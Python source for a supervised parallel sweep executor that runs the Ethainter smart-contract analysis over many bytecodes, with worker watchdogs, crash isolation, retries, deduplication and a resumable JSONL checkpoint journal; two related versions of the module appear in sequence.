    result verbatim, exactly what a journal replay of the shared identity
    would reconstruct."""
    return BatchEntry(
        index=index,
        kinds=entry.kinds,
        error=entry.error,
        elapsed_seconds=entry.elapsed_seconds,
        statement_count=entry.statement_count,
        deadline_exceeded=entry.deadline_exceeded,
        stage_seconds=dict(entry.stage_seconds),
        cache_hits=entry.cache_hits,
        cache_misses=entry.cache_misses,
        datalog=dict(entry.datalog),
        block_count=entry.block_count,
        warnings=[dict(warning) for warning in entry.warnings],
        precision=dict(entry.precision),
        attempts=entry.attempts,
    )


# ------------------------------------------------------------------ driving


def _serial_rows(
    tasks: List[Tuple[int, bytes]],
    configs: Tuple[AnalysisConfig, ...],
    cache: Optional[ArtifactCache],
    stats: OrchestratorStats,
    journal: Optional[SweepJournal],
    keys: Dict[int, str],
    on_event: Optional[Callable[[Dict], None]],
) -> Dict[int, Tuple[BatchEntry, ...]]:
    """In-process execution (jobs=1, tiny batches, or degraded mode);
    journal checkpoints work identically to the orchestrated path."""
    rows: Dict[int, Tuple[BatchEntry, ...]] = {}
    for index, runtime in tasks:
        row = tuple(
            _entry_from_result(
                index, EthainterAnalysis(config, cache=cache).analyze(runtime)
            )
            for config in configs
        )
        rows[index] = row
        stats.dispatched += 1
        stats.completed += 1
        if journal is not None and index in keys:
            journal.record(keys[index], index, row)
        if on_event is not None:
            on_event({"event": "task_done", "index": index, "attempt": 0})
    return rows


def run_sweep(
    bytecodes: Sequence[bytes],
    configs: Sequence[AnalysisConfig],
    jobs: int = 1,
    cache: Optional[ArtifactCache] = None,
    options: Optional[OrchestratorOptions] = None,
) -> List[BatchSummary]:
    """Analyze ``bytecodes`` under every configuration in ``configs``.

    Returns one :class:`BatchSummary` per configuration, index-aligned with
    ``configs`` and entry-ordered by input index.  The executor is chosen
    by ``options.executor`` (default: supervised orchestrator when
    ``jobs > 1``); every summary carries the sweep's
    :class:`OrchestratorStats` counters in ``summary.orchestrator``.

    With ``options.dedup`` (the default) submissions are coalesced by
    sweep identity — ``sha256(bytecode) + config fingerprint`` — before
    dispatch: one representative runs per unique identity and its row is
    fanned out to every duplicate with the submission index preserved, so
    analysis cost scales with *unique* bytecode (§6.1's 38M→240K dedup).
    ``options.result_cache_path`` additionally resolves representatives
    from a disk-backed :class:`ResultCache` shared across runs.
    """
    if not configs:
        raise ValueError("run_sweep needs at least one configuration")
    options = options or OrchestratorOptions()
    configs = tuple(configs)
    tasks = list(enumerate(bytecodes))
    started = time.monotonic()

    executor = options.executor
    if executor not in ("auto", "orchestrator", "pool", "serial"):
        raise ValueError("unknown executor %r" % (executor,))
    if executor == "auto":
        executor = "orchestrator" if jobs > 1 else "serial"
    if executor in ("orchestrator", "pool") and (jobs <= 1 or len(tasks) < 2):
        executor = "serial"
    if executor == "pool" and options.journal_path:
        raise ValueError(
            "checkpoint journals need the orchestrator (or serial) executor; "
            "the legacy pool cannot journal"
        )

    stats = OrchestratorStats(mode=executor)
    degraded_reason: Optional[str] = None

    def _emit(event: str, **data) -> None:
        if options.on_event is not None:
            payload = {"event": event}
            payload.update(data)
            options.on_event(payload)

    # Every submission's sweep identity (the journal/result-cache/dedup
    # key): bytecode digest + the full configuration fingerprint.
    fingerprint = sweep_fingerprint(configs)
    keys: Dict[int, str] = {
        index: journal_key(runtime, fingerprint) for index, runtime in tasks
    }
    stats.tasks_total = len(tasks)
    stats.tasks_unique = len(set(keys.values()))

    # Resolve the journal and resumed rows up front (every executor but
    # the legacy pool shares this path).
    journal: Optional[SweepJournal] = None
    rows: Dict[int, Tuple[BatchEntry, ...]] = {}
    remaining = tasks
    if options.journal_path:
        journal = SweepJournal(
            options.journal_path, fingerprint, resume=options.resume
        )
        remaining = []
        for index, runtime in tasks:
            entries = journal.lookup(keys[index])
            if entries is not None and len(entries) == len(configs):
                rows[index] = tuple(
                    _entry_from_dict(entry, index=index) for entry in entries
                )
                stats.resumed += 1
                _emit("resumed", index=index)
            else:
                remaining.append((index, runtime))

    # Content-addressed coalescing: group what's left by identity; only
    # group representatives (first submission per identity) are executed.
    groups: Dict[str, List[int]] = {}
    if options.dedup:
        run_list: List[Tuple[int, bytes]] = []
        for index, runtime in remaining:
            members = groups.get(keys[index])
            if members is None:
                groups[keys[index]] = [index]
                run_list.append((index, runtime))
            else:
                members.append(index)
    else:
        run_list = remaining

    # Cross-run result cache: tasks whose identity completed in an
    # earlier sweep skip analysis entirely (lookups happen before any
    # dispatch; the write-back below runs at sweep end).
    result_cache: Optional[ResultCache] = None
    if options.result_cache_path:
        result_cache = ResultCache(options.result_cache_path)
        uncached: List[Tuple[int, bytes]] = []
        for index, runtime in run_list:
            entries = result_cache.get(keys[index])
            if entries is not None and len(entries) == len(configs):
                rows[index] = tuple(
                    _entry_from_dict(entry, index=index) for entry in entries
                )
                stats.result_cache_hits += 1
                if journal is not None:
                    journal.record(keys[index], index, rows[index])
                _emit("result_cache_hit", index=index)
            else:
                uncached.append((index, runtime))
        run_list = uncached

    try:
        if executor == "orchestrator" and run_list:
            supervisor = Orchestrator(
                configs, jobs, options, stats, journal=journal, keys=keys
            )
            try:
                rows.update(supervisor.run(run_list))
            except _PoolBroken as broken:
                degraded_reason = str(broken)
                rows.update(supervisor.rows)
                run_list = [
                    task for task in run_list if task[0] not in rows
                ]
                executor = "serial"
        elif executor == "pool" and run_list:
            worker = _analyze_one if len(configs) == 1 else _analyze_battery_one
            context = resolve_mp_context(options.mp_context)
            pooled, degraded_reason = _pool_run(
                run_list,
                worker,
                configs,
                jobs,
                cache_entries=options.cache_entries,
                context=context,
            )
            rows.update({row[0].index: tuple(row) for row in pooled})
            run_list = []

        if executor == "serial" and run_list:
            serial_cache = cache
            if serial_cache is None:
                serial_cache = ArtifactCache(
                    max_entries=max(4096, 8 * len(tasks) * len(configs))
                )
            rows.update(
                _serial_rows(
                    run_list,
                    configs,
                    serial_cache,
                    stats,
                    journal,
                    keys,
                    options.on_event,
                )
            )
    finally:
        if journal is not None:
            journal.close()

    # Persist completed rows for future runs (put() skips existing keys;
    # harness faults are never stored, so a later sweep retries them).
    if result_cache is not None:
        for index, row in rows.items():
            if not _is_harness_fault_row(row):
                result_cache.put(
                    keys[index], [_entry_to_dict(entry) for entry in row]
                )

    # Fan each representative's row out to its duplicate group — the
    # representative's outcome (verdicts, analysis errors, even a harness
    # fault after retries) resolves the whole group at once.
    for key, members in groups.items():
        row = rows.get(members[0])
        if row is None:
            continue  # degraded mid-run before the representative resolved
        for index in members[1:]:
            rows[index] = tuple(
                _entry_with_index(entry, index) for entry in row
            )
            stats.dedup_hits += 1
            _emit("dedup_hit", index=index, representative=members[0])

    stats.elapsed_seconds = time.monotonic() - started
    if degraded_reason is not None:
        stats.mode = "serial"

    summaries = [BatchSummary() for _ in configs]
    for index in sorted(rows):
        for position, entry in enumerate(rows[index]):
            summaries[position].entries.append(entry)
    for summary in summaries:
        summary.orchestrator = stats.as_dict()
        if degraded_reason is not None:
            summary.degraded = True
            summary.degraded_reason = degraded_reason
    return summaries
