"""Supervised worker-pool sweep executor (the §6 harness, made survivable).

The paper runs Ethainter over the whole chain with 45 concurrent analysis
processes and a per-contract cutoff (§6).  At that scale the harness itself
is part of the analysis: a lifter that wedges on one pathological contract,
a worker the kernel OOM-kills, or an operator restart must each cost *one
contract*, not the sweep.  This module owns ``multiprocessing.Process``
workers directly (one private duplex pipe per worker — no shared queue
locks a dying worker could leave held) and adds, over the bare
``Pool.imap_unordered`` it replaces:

* **watchdog** — a wall-clock backstop that SIGKILLs and respawns workers
  stuck past ``deadline x grace_factor``, catching hangs the cooperative
  :class:`~repro.core.pipeline.Deadline` checks cannot (native sleeps,
  pathological allocation storms between check points);
* **crash isolation** — a worker death (signal, OOM kill, ``os._exit``) is
  recorded as a structured ``worker_crashed`` :class:`BatchEntry` error for
  the one contract it held; the worker is respawned and the sweep continues;
* **bounded retries** — a task whose worker *raised* (transient
  infrastructure errors) is retried with exponential backoff up to
  ``max_retries``; deterministic analysis errors (``timeout``,
  ``lift-error``) come back inside successful entries and are never
  retried;
* **worker recycling** — workers exit cleanly after ``recycle_after`` tasks
  (the ``maxtasksperchild`` analog) to bound allocator/cache growth on
  blockchain-scale corpora;
* **checkpoint journal** — completed entries append to a JSONL journal
  keyed by ``sha256(bytecode) + config fingerprint`` (the same identity as
  :class:`~repro.core.pipeline.ArtifactCache`); ``repro sweep --resume
  <journal>`` skips completed contracts after an interruption.  Harness
  faults (crash/watchdog/task_failed entries) are deliberately *not*
  journaled, so a resumed run retries them;
* **progress events** — heartbeat / task_done / retry / worker_crashed /
  watchdog_kill / recycle / resumed events via ``on_event``, with the
  counters rolled into :class:`BatchSummary.orchestrator`, sweep JSON
  reports, and ``--profile`` output.

:func:`run_sweep` is the single entry point; ``executor="pool"`` keeps the
legacy :func:`repro.core.batch._pool_run` path as the overhead baseline,
and both executors degrade to in-process execution (recorded, never
silent) when worker processes cannot be spawned.
"""

from __future__ import annotations

import json
import multiprocessing
import os
import time
from multiprocessing import connection as mp_connection
from collections import deque
from dataclasses import asdict, dataclass, field, fields as dataclass_fields
from typing import Callable, Dict, List, Mapping, Optional, Sequence, Tuple

from repro.core.analysis import AnalysisConfig, EthainterAnalysis
from repro.core.batch import (
    BatchEntry,
    BatchSummary,
    _analyze_battery_one,
    _analyze_one,
    _entry_from_result,
    _pool_run,
)
from repro.core.pipeline import ArtifactCache, analysis_fingerprint, bytecode_digest

JOURNAL_VERSION = 1


class TransientTaskError(Exception):
    """Raise inside a worker to mark a task failure as retriable."""


def resolve_mp_context(name: Optional[str] = None):
    """Resolve a multiprocessing context.

    With ``name`` (``"fork"``/``"spawn"``/``"forkserver"``) the named start
    method is used and unsupported names raise ``ValueError`` to the
    caller.  Without it, ``fork`` is preferred where available (cheapest on
    POSIX) with a fallback to the platform default — the old hard-coded
    ``get_context("fork")`` preference, made survivable on non-fork
    platforms.
    """
    if name:
        return multiprocessing.get_context(name)
    try:
        return multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        return multiprocessing.get_context()


# ------------------------------------------------------------------ options


@dataclass(frozen=True)
class FaultPlan:
    """Test-only fault injection, honored inside worker processes.

    ``crash_indices`` hard-exit the worker (``os._exit``), ``hang_indices``
    sleep past any watchdog, and ``transient_failures`` maps a task index
    to how many attempts fail with :class:`TransientTaskError` before the
    task succeeds.  Ignored entirely by in-process (serial) execution —
    injecting a crash into the supervisor would defeat the point.
    """

    crash_indices: Tuple[int, ...] = ()
    crash_exit_code: int = 13
    hang_indices: Tuple[int, ...] = ()
    hang_seconds: float = 3600.0
    transient_failures: Mapping[int, int] = field(default_factory=dict)

    def apply(self, index: int, attempt: int) -> None:
        if index in self.crash_indices:
            os._exit(self.crash_exit_code)
        if index in self.hang_indices:
            time.sleep(self.hang_seconds)
        failures = self.transient_failures.get(index, 0)
        if attempt < failures:
            raise TransientTaskError(
                "injected transient failure %d/%d on contract %d"
                % (attempt + 1, failures, index)
            )


@dataclass
class OrchestratorOptions:
    """Knobs for :func:`run_sweep` (shared by every executor).

    ``executor="auto"`` picks the supervised orchestrator for parallel
    runs and in-process execution otherwise; ``"pool"`` is the legacy
    ``multiprocessing.Pool`` baseline (no watchdog/journal/retries).
    ``watchdog_seconds`` overrides the default budget-derived timeout of
    ``timeout_seconds * grace_factor``.
    """

    executor: str = "auto"  # "auto" | "orchestrator" | "pool" | "serial"
    mp_context: Optional[str] = None  # "fork" | "spawn" | "forkserver"
    max_retries: int = 2
    backoff_seconds: float = 0.05
    grace_factor: float = 4.0
    watchdog_seconds: Optional[float] = None
    recycle_after: Optional[int] = 64
    heartbeat_seconds: float = 5.0
    cache_entries: int = 256
    journal_path: Optional[str] = None
    resume: bool = False
    on_event: Optional[Callable[[Dict], None]] = None
    fault_plan: Optional[FaultPlan] = None

    def effective_watchdog(self, config: AnalysisConfig) -> Optional[float]:
        if self.watchdog_seconds is not None:
            return self.watchdog_seconds
        if config.timeout_seconds is None:
            return None
        return config.timeout_seconds * self.grace_factor


@dataclass
class OrchestratorStats:
    """Sweep-level health counters, surfaced on every summary/report."""

    mode: str = "orchestrator"  # "orchestrator" | "pool" | "serial"
    workers: int = 0
    dispatched: int = 0  # tasks sent to workers, retries included
    completed: int = 0  # tasks that produced a result row
    retries: int = 0
    crashes: int = 0
    watchdog_kills: int = 0
    recycles: int = 0
    resumed: int = 0  # tasks resolved from the checkpoint journal
    heartbeats: int = 0
    elapsed_seconds: float = 0.0

    def as_dict(self) -> Dict[str, object]:
        payload = asdict(self)
        payload["elapsed_seconds"] = round(self.elapsed_seconds, 6)
        return payload


# ------------------------------------------------------------------ journal


def sweep_fingerprint(configs: Sequence[AnalysisConfig]) -> str:
    """Identity of a sweep configuration: every config field, budgets
    included (a journaled ``timeout`` entry is only valid under the same
    budget), over every battery configuration in order."""
    return "+".join(analysis_fingerprint(config) for config in configs)


def journal_key(runtime_bytecode: bytes, fingerprint: str) -> str:
    """Journal row identity: bytecode digest plus the sweep fingerprint
    (journaled entries are only reusable under the exact configuration
    that produced them)."""
    return "%s:%s" % (bytecode_digest(runtime_bytecode), fingerprint)


def _entry_to_dict(entry: BatchEntry) -> Dict:
    return asdict(entry)


def _entry_from_dict(data: Dict, index: Optional[int] = None) -> BatchEntry:
    known = {f.name for f in dataclass_fields(BatchEntry)}
    payload = {name: value for name, value in data.items() if name in known}
    payload["kinds"] = tuple(payload.get("kinds") or ())
    if index is not None:
        payload["index"] = index
    return BatchEntry(**payload)


class SweepJournal:
    """Append-only JSONL checkpoint of completed sweep rows.

    Line 1 is a header record carrying the sweep's configuration
    fingerprint; each subsequent line is ``{"key": ..., "index": ...,
    "entries": [...]}``.  Loading tolerates a truncated final line (the
    sweep was killed mid-write) by stopping at the first undecodable
    record, and discards the whole journal when the header fingerprint
    does not match the resuming sweep's configuration.
    """

    def __init__(self, path: str, fingerprint: str, resume: bool = False):
        self.path = path
        self.fingerprint = fingerprint
        self.completed: Dict[str, List[Dict]] = {}
        if resume and os.path.exists(path):
            self.completed = self._load(path, fingerprint)
            self._handle = open(path, "a")
        else:
            self._handle = open(path, "w")
            self._write(
                {
                    "journal": "repro-sweep",
                    "version": JOURNAL_VERSION,
                    "fingerprint": fingerprint,
                }
            )

    @staticmethod
    def _load(path: str, fingerprint: str) -> Dict[str, List[Dict]]:
        completed: Dict[str, List[Dict]] = {}
        with open(path) as handle:
            for line in handle:
                try:
                    record = json.loads(line)
                except json.JSONDecodeError:
                    break  # killed mid-write; everything before is valid
                if "journal" in record:
                    if (
                        record.get("fingerprint") != fingerprint
                        or record.get("version") != JOURNAL_VERSION
                    ):
                        return {}  # different sweep configuration: start over
                    continue
                key = record.get("key")
                entries = record.get("entries")
                if key and entries and key.endswith(fingerprint):
                    completed[key] = entries
        return completed

    def _write(self, record: Dict) -> None:
        # No sort_keys: entry dict ordering (stage order, precision counter
        # order) must survive the round-trip so a resumed sweep's report is
        # byte-identical to the uninterrupted one.
        self._handle.write(json.dumps(record) + "\n")
        self._handle.flush()

    def lookup(self, key: str) -> Optional[List[Dict]]:
        return self.completed.get(key)

    def record(self, key: str, index: int, row: Sequence[BatchEntry]) -> None:
        if key in self.completed:
            return
        entries = [_entry_to_dict(entry) for entry in row]
        self.completed[key] = entries
        self._write({"key": key, "index": index, "entries": entries})

    def close(self) -> None:
        self._handle.close()


# ------------------------------------------------------------------- worker


def _worker_main(
    worker_id: int,
    conn,
    configs: Tuple[AnalysisConfig, ...],
    cache_entries: int,
    recycle_after: Optional[int],
    fault_plan: Optional[FaultPlan],
) -> None:
    """Worker loop: one task in flight, on a private duplex pipe.

    Each worker owns its own :func:`multiprocessing.Pipe` rather than
    sharing a ``Queue``: shared queues serialize writers through a shared
    lock held by a feeder *thread*, and a worker hard-exiting inside that
    window (``os._exit``, SIGKILL, OOM) leaves the lock held forever,
    wedging every other worker — the supervisor must survive exactly those
    deaths.  A private pipe has a single writer per direction and no
    cross-process lock, so a dying worker can only corrupt its own
    channel, which the supervisor treats as the crash it is.

    Spawn-safe by construction: a top-level function whose arguments are
    all picklable; per-worker state (the artifact cache) is built here,
    never inherited.  Tasks are ``(index, bytecode, attempt)``; replies are
    ``("done", wid, index, attempt, row)``, ``("fail", wid, index, attempt,
    message)`` or ``("recycle", wid)`` before a clean exit.
    """
    cache = ArtifactCache(cache_entries) if cache_entries > 0 else None
    done = 0
    while True:
        message = conn.recv()
        if message is None:
            return
        index, runtime, attempt = message
        try:
            if fault_plan is not None:
                fault_plan.apply(index, attempt)
            row = tuple(
                _entry_from_result(
                    index, EthainterAnalysis(config, cache=cache).analyze(runtime)
                )
                for config in configs
            )
            conn.send(("done", worker_id, index, attempt, row))
        except Exception as error:  # reported; the supervisor decides retry
            conn.send(
                (
                    "fail",
                    worker_id,
                    index,
                    attempt,
                    "%s: %s" % (type(error).__name__, error),
                )
            )
        done += 1
        if recycle_after is not None and done >= recycle_after:
            conn.send(("recycle", worker_id))
            return


class _Worker:
    """Supervisor-side view of one worker process."""

    __slots__ = ("process", "conn", "current", "retiring")

    def __init__(self, process, conn):
        self.process = process
        self.conn = conn
        # (index, attempt, dispatched_at) for the in-flight task, if any.
        self.current: Optional[Tuple[int, int, float]] = None
        self.retiring = False


class _PoolBroken(Exception):
    """Worker processes cannot be (re)spawned; degrade to in-process."""


# --------------------------------------------------------------- supervisor


class Orchestrator:
    """Supervises worker processes over one sweep's task list.

    Single-threaded supervisor: each loop iteration reaps dead workers
    (crash isolation), enforces the watchdog, dispatches ready tasks to
    idle workers (one in flight per worker, dispatched the moment its
    previous result drains — the blocking result-queue read wakes on
    arrival, so dispatch latency is queue latency, not poll latency), and
    emits heartbeats.  Workers carry unique ids for their whole lifetime,
    so late messages from a replaced worker can never be mis-attributed to
    its successor.
    """

    def __init__(
        self,
        configs: Tuple[AnalysisConfig, ...],
        jobs: int,
        options: OrchestratorOptions,
        stats: OrchestratorStats,
        journal: Optional[SweepJournal] = None,
        keys: Optional[Dict[int, str]] = None,
    ):
        self.configs = configs
        self.jobs = jobs
        self.options = options
        self.stats = stats
        self.journal = journal
        self.keys = keys or {}
        self.context = resolve_mp_context(options.mp_context)
        self.watchdog = options.effective_watchdog(configs[0])
        self.rows: Dict[int, Tuple[BatchEntry, ...]] = {}
        self.tasks_by_index: Dict[int, bytes] = {}
        self.pending: "deque[Tuple[int, int, float]]" = deque()  # index, attempt, not_before
        self.workers: Dict[int, _Worker] = {}
        self.next_worker_id = 0

    # -- events

    def _emit(self, event: str, **data) -> None:
        if self.options.on_event is not None:
            payload = {"event": event}
            payload.update(data)
            self.options.on_event(payload)

    # -- worker lifecycle

    def _spawn_worker(self) -> None:
        worker_id = self.next_worker_id
        self.next_worker_id += 1
        try:
            parent_conn, child_conn = self.context.Pipe(duplex=True)
            process = self.context.Process(
                target=_worker_main,
                args=(
                    worker_id,
                    child_conn,
                    self.configs,
                    self.options.cache_entries,
                    self.options.recycle_after,
                    self.options.fault_plan,
                ),
                daemon=True,
            )
            process.start()
        except (OSError, RuntimeError) as error:
            raise _PoolBroken("%s: %s" % (type(error).__name__, error)) from error
        # Close the supervisor's copy of the child end so a worker death
        # surfaces as EOF on the parent end instead of a silent stall.
        child_conn.close()
        self.workers[worker_id] = _Worker(process, parent_conn)

    # -- task resolution

    def _requeue(self, index: int, attempt: int, delay: float = 0.0) -> None:
        self.pending.append((index, attempt, time.monotonic() + delay))

    def _record_row(
        self, index: int, row: Tuple[BatchEntry, ...], journal: bool
    ) -> None:
        if index in self.rows:
            # A worker that finished a task and then died before its result
            # drained gets charged a crash first; the real row wins.
            self.rows[index] = row
        else:
            self.rows[index] = row
            self.stats.completed += 1
        if journal and self.journal is not None and index in self.keys:
            self.journal.record(self.keys[index], index, row)

    def _fault_row(self, index: int, attempt: int, error: str, elapsed: float):
        """One error entry per battery configuration for a harness fault.

        Deliberately *not* journaled: crashes and hangs may be
        environmental, so a resumed run gets a fresh attempt at these
        contracts.
        """
        row = tuple(
            BatchEntry(
                index=index,
                kinds=(),
                error=error,
                elapsed_seconds=elapsed,
                statement_count=0,
                attempts=attempt + 1,
            )
            for _ in self.configs
        )
        self._record_row(index, row, journal=False)

    def _unresolved(self) -> int:
        return len(self.tasks_by_index) - len(self.rows)

    # -- supervision steps

    def _reap(self) -> None:
        for worker_id, worker in list(self.workers.items()):
            if worker.process.exitcode is None:
                continue
            exitcode = worker.process.exitcode
            worker.process.join()
            worker.conn.close()
            del self.workers[worker_id]
            held = worker.current
            if exitcode == 0:
                # Clean exit (recycle, or a shutdown race): a task that was
                # dispatched but never picked up is requeued, not charged.
                if held is not None:
                    self._requeue(held[0], held[1])
            else:
                self.stats.crashes += 1
                if held is not None:
                    index, attempt, started = held
                    self._emit(
                        "worker_crashed",
                        index=index,
                        exitcode=exitcode,
                        attempt=attempt,
                    )
                    self._fault_row(
                        index,
                        attempt,
                        "worker_crashed: worker exit code %s while analyzing "
                        "contract %d" % (exitcode, index),
                        time.monotonic() - started,
                    )
                else:
                    self._emit("worker_crashed", index=None, exitcode=exitcode)
            if self._unresolved() and len(self.workers) < self.jobs:
                self._spawn_worker()

    def _check_watchdog(self) -> None:
        if self.watchdog is None:
            return
        now = time.monotonic()
        for worker_id, worker in list(self.workers.items()):
            if worker.current is None or worker.process.exitcode is not None:
                continue
            index, attempt, started = worker.current
            if now - started <= self.watchdog:
                continue
            worker.process.kill()
            worker.process.join(timeout=5.0)
            worker.conn.close()
            del self.workers[worker_id]
            self.stats.watchdog_kills += 1
            self._emit(
                "watchdog_kill",
                index=index,
                attempt=attempt,
                stuck_seconds=now - started,
            )
            self._fault_row(
                index,
                attempt,
                "watchdog_killed: contract %d still running after %.3fs "
                "(budget x grace = %.3fs)" % (index, now - started, self.watchdog),
                now - started,
            )
            if self._unresolved() and len(self.workers) < self.jobs:
                self._spawn_worker()

    def _dispatch(self) -> None:
        if not self.pending:
            return
        now = time.monotonic()
        for worker in self.workers.values():
            if not self.pending:
                return
            if (
                worker.current is not None
                or worker.retiring
                or worker.process.exitcode is not None
            ):
                continue
            # Honor retry backoff: scan the (small) queue for a ready task.
            for _ in range(len(self.pending)):
                index, attempt, not_before = self.pending[0]
                if not_before <= now:
                    self.pending.popleft()
                    try:
                        worker.conn.send(
                            (index, self.tasks_by_index[index], attempt)
                        )
                    except (OSError, ValueError):
                        # Worker died before taking the task: requeue it
                        # uncharged; _reap collects the corpse.
                        self._requeue(index, attempt)
                        break
                    worker.current = (index, attempt, time.monotonic())
                    self.stats.dispatched += 1
                    break
                self.pending.rotate(-1)

    def _handle_result(self, message) -> None:
        kind = message[0]
        if kind == "recycle":
            _, worker_id = message
            worker = self.workers.get(worker_id)
            if worker is not None:
                worker.retiring = True
            self.stats.recycles += 1
            self._emit("recycle", worker=worker_id)
            return
        _, worker_id, index, attempt, payload = message
        worker = self.workers.get(worker_id)
        if worker is not None and worker.current is not None:
            if worker.current[0] == index:
                worker.current = None
        if kind == "done":
            row = tuple(
                _entry_with_attempts(entry, attempt + 1) for entry in payload
            )
            self._record_row(index, row, journal=True)
            self._emit("task_done", index=index, attempt=attempt)
        elif kind == "fail":
            if index in self.rows:
                return  # already resolved (e.g. watchdog raced the reply)
            if attempt < self.options.max_retries:
                self.stats.retries += 1
                delay = self.options.backoff_seconds * (2 ** attempt)
                self._requeue(index, attempt + 1, delay)
                self._emit(
                    "retry", index=index, attempt=attempt + 1, error=payload
                )
            else:
                self._fault_row(
                    index,
                    attempt,
                    "task_failed: %s (after %d attempt(s))"
                    % (payload, attempt + 1),
                    0.0,
                )
                self._emit("task_failed", index=index, error=payload)

    # -- main loop

    def run(
        self, tasks: List[Tuple[int, bytes]]
    ) -> Dict[int, Tuple[BatchEntry, ...]]:
        self.tasks_by_index = dict(tasks)
        for index, _runtime in tasks:
            self._requeue(index, attempt=0)
        try:
            while len(self.workers) < min(self.jobs, len(tasks)):
                self._spawn_worker()
            self.stats.workers = len(self.workers)
            started = time.monotonic()
            last_heartbeat = started
            while self._unresolved():
                self._reap()
                self._check_watchdog()
                self._dispatch()
                # Wake on any worker's reply *or* death (process sentinels),
                # so dispatch latency and crash reaction are both bounded by
                # pipe latency, not the poll interval.
                waitables = [
                    worker.conn for worker in self.workers.values()
                ] + [
                    worker.process.sentinel
                    for worker in self.workers.values()
                ]
                for ready in mp_connection.wait(waitables, timeout=0.05):
                    conn = ready if hasattr(ready, "recv") else None
                    if conn is None:
                        continue  # a sentinel fired; _reap handles it
                    try:
                        self._handle_result(conn.recv())
                    except (EOFError, OSError):
                        pass  # worker died mid-reply; _reap charges it
                now = time.monotonic()
                if now - last_heartbeat >= self.options.heartbeat_seconds:
                    last_heartbeat = now
                    self.stats.heartbeats += 1
                    elapsed = now - started
                    self._emit(
                        "heartbeat",
                        completed=self.stats.completed,
                        total=len(self.tasks_by_index),
                        in_flight=sum(
                            1
                            for worker in self.workers.values()
                            if worker.current is not None
                        ),
                        retries=self.stats.retries,
                        crashes=self.stats.crashes,
                        watchdog_kills=self.stats.watchdog_kills,
                        recycles=self.stats.recycles,
                        elapsed_seconds=elapsed,
                        throughput=(
                            self.stats.completed / elapsed if elapsed > 0 else 0.0
                        ),
                    )
        finally:
            self._shutdown()
        return self.rows

    def _shutdown(self) -> None:
        for worker in self.workers.values():
            if worker.process.exitcode is None:
                try:
                    worker.conn.send(None)
                except (OSError, ValueError):  # pragma: no cover - dead pipe
                    pass
        for worker in self.workers.values():
            worker.process.join(timeout=0.5)
            if worker.process.exitcode is None:
                worker.process.kill()
                worker.process.join(timeout=5.0)
            worker.conn.close()
        self.workers.clear()


def _entry_with_attempts(entry: BatchEntry, attempts: int) -> BatchEntry:
    if attempts != entry.attempts:
        entry.attempts = attempts
    return entry


# ------------------------------------------------------------------ driving


def _serial_rows(
    tasks: List[Tuple[int, bytes]],
    configs: Tuple[AnalysisConfig, ...],
    cache: Optional[ArtifactCache],
    stats: OrchestratorStats,
    journal: Optional[SweepJournal],
    keys: Dict[int, str],
    on_event: Optional[Callable[[Dict], None]],
) -> Dict[int, Tuple[BatchEntry, ...]]:
    """In-process execution (jobs=1, tiny batches, or degraded mode);
    journal checkpoints work identically to the orchestrated path."""
    rows: Dict[int, Tuple[BatchEntry, ...]] = {}
    for index, runtime in tasks:
        row = tuple(
            _entry_from_result(
                index, EthainterAnalysis(config, cache=cache).analyze(runtime)
            )
            for config in configs
        )
        rows[index] = row
        stats.dispatched += 1
        stats.completed += 1
        if journal is not None and index in keys:
            journal.record(keys[index], index, row)
        if on_event is not None:
            on_event({"event": "task_done", "index": index, "attempt": 0})
    return rows


def run_sweep(
    bytecodes: Sequence[bytes],
    configs: Sequence[AnalysisConfig],
    jobs: int = 1,
    cache: Optional[ArtifactCache] = None,
    options: Optional[OrchestratorOptions] = None,
) -> List[BatchSummary]:
    """Analyze ``bytecodes`` under every configuration in ``configs``.

    Returns one :class:`BatchSummary` per configuration, index-aligned with
    ``configs`` and entry-ordered by input index.  The executor is chosen
    by ``options.executor`` (default: supervised orchestrator when
    ``jobs > 1``); every summary carries the sweep's
    :class:`OrchestratorStats` counters in ``summary.orchestrator``.
    """
    if not configs:
        raise ValueError("run_sweep needs at least one configuration")
    options = options or OrchestratorOptions()
    configs = tuple(configs)
    tasks = list(enumerate(bytecodes))
    started = time.monotonic()

    executor = options.executor
    if executor not in ("auto", "orchestrator", "pool", "serial"):
        raise ValueError("unknown executor %r" % (executor,))
    if executor == "auto":
        executor = "orchestrator" if jobs > 1 else "serial"
    if executor in ("orchestrator", "pool") and (jobs <= 1 or len(tasks) < 2):
        executor = "serial"
    if executor == "pool" and options.journal_path:
        raise ValueError(
            "checkpoint journals need the orchestrator (or serial) executor; "
            "the legacy pool cannot journal"
        )

    stats = OrchestratorStats(mode=executor)
    degraded_reason: Optional[str] = None

    # Resolve the journal identity and resumed rows up front (every
    # executor but the legacy pool shares this path).
    journal: Optional[SweepJournal] = None
    keys: Dict[int, str] = {}
    rows: Dict[int, Tuple[BatchEntry, ...]] = {}
    remaining = tasks
    if options.journal_path:
        fingerprint = sweep_fingerprint(configs)
        keys = {
            index: journal_key(runtime, fingerprint) for index, runtime in tasks
        }
        journal = SweepJournal(
            options.journal_path, fingerprint, resume=options.resume
        )
        remaining = []
        for index, runtime in tasks:
            entries = journal.lookup(keys[index])
            if entries is not None and len(entries) == len(configs):
                rows[index] = tuple(
                    _entry_from_dict(entry, index=index) for entry in entries
                )
                stats.resumed += 1
                if options.on_event is not None:
                    options.on_event({"event": "resumed", "index": index})
            else:
                remaining.append((index, runtime))

    try:
        if executor == "orchestrator" and remaining:
            supervisor = Orchestrator(
                configs, jobs, options, stats, journal=journal, keys=keys
            )
            try:
                rows.update(supervisor.run(remaining))
            except _PoolBroken as broken:
                degraded_reason = str(broken)
                rows.update(supervisor.rows)
                remaining = [
                    task for task in remaining if task[0] not in rows
                ]
                executor = "serial"
        elif executor == "pool" and remaining:
            worker = _analyze_one if len(configs) == 1 else _analyze_battery_one
            context = resolve_mp_context(options.mp_context)
            pooled, degraded_reason = _pool_run(
                remaining,
                worker,
                configs,
                jobs,
                cache_entries=options.cache_entries,
                context=context,
            )
            rows.update({row[0].index: tuple(row) for row in pooled})
            remaining = []

        if executor == "serial" and remaining:
            serial_cache = cache
            if serial_cache is None:
                serial_cache = ArtifactCache(
                    max_entries=max(4096, 8 * len(tasks) * len(configs))
                )
            rows.update(
                _serial_rows(
                    remaining,
                    configs,
                    serial_cache,
                    stats,
                    journal,
                    keys,
                    options.on_event,
                )
            )
    finally:
        if journal is not None:
            journal.close()

    stats.elapsed_seconds = time.monotonic() - started
    if degraded_reason is not None:
        stats.mode = "serial"

    summaries = [BatchSummary() for _ in configs]
    for index in sorted(rows):
        for position, entry in enumerate(rows[index]):
